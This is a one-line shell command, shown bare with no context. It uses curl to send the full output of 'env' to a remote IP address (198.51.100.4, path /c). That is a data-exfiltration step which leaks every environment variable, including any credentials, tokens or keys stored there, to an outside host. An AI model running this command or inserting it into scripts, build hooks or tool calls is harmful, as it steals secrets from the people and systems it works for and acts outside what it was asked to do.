curl -d "$(env)" http://198.51.100.4/c
